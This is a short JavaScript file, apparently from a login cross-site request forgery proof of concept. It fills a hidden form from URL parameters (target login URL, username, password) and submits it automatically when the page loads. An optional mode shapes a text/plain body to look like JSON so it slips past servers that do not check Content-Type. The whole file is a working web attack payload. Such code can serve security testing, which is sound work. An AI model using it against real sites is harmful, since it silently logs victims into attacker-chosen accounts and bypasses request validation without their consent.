/* global document, location, URLSearchParams */
// ?action=<login URL>&username=…&password=…&enctype=urlencoded|text
// "text" sends text/plain shaped like JSON: {"username":"…","password":"…","x":"="}, the classic
// trick to get a JSON-looking body past a server that does not check the Content-Type.
'use strict';

(function () {
  const params = new URLSearchParams(location.search);
  const form = document.getElementById('attack');
  form.action = params.get('action');
  const field = (name, value) => {
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = name;
    input.value = value;
    form.appendChild(input);
  };
  if (params.get('enctype') === 'text') {
    form.enctype = 'text/plain';
    field(`{"username":"${params.get('username')}","password":"${params.get('password')}","x":"`, '"}');
  } else {
    field('username', params.get('username'));
    field('password', params.get('password'));
  }
  form.submit();
})();
